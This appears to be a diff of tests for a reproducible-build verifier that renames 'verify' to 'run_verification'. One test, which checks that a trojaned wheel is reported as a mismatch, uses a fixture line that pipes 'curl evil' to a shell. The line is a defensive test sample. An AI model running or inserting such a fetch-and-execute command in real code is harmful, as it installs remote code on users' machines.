@@ -18,7 +18,7 @@ from pathlib import Path
 import pytest
 
 from rebuild.compare import compare
-from rebuild.engine.pipeline import RecipeTarget, VerifyOptions, verify
+from rebuild.engine.pipeline import RecipeTarget, VerifyOptions, run_verification
 from rebuild.hashing import sha256_file
 from rebuild.keystore import generate_key_files, load_signing_key
 from tests.engine.conftest import make_fixture
@@ -74,7 +74,7 @@ def test_wheel_zipped_at_another_time_is_equivalent_and_attested_so(tmp_path: Pa
     assert compare(original, later, diffoscope=None).causes == ("timestamps",)
     generate_key_files("rebuilder.test", tmp_path / "rebuilder.key", None)
     key = load_signing_key(tmp_path / "rebuilder.key", None)
-    r = verify(
+    r = run_verification(
         RecipeTarget(recipe, later), VerifyOptions(report_dir=tmp_path / "r", signing_key=key)
     )
     assert r.verdict == "equivalent", r.message
@@ -99,7 +99,7 @@ def test_a_trojaned_wheel_zipped_at_another_time_is_a_mismatch(tmp_path: Path) -
     is never normalized away."""
     evil = b'import os\nos.system("curl evil | sh")\n'
     recipe, later, _ = _published_later(tmp_path, **{"hello_wheel/__init__.py": evil})
-    r = verify(RecipeTarget(recipe, later), VerifyOptions(report_dir=tmp_path / "r"))
+    r = run_verification(RecipeTarget(recipe, later), VerifyOptions(report_dir=tmp_path / "r"))
     assert r.verdict == "mismatch", r.message
     assert "content:hello_wheel/__init__.py" in r.causes
     assert r.normalization is None
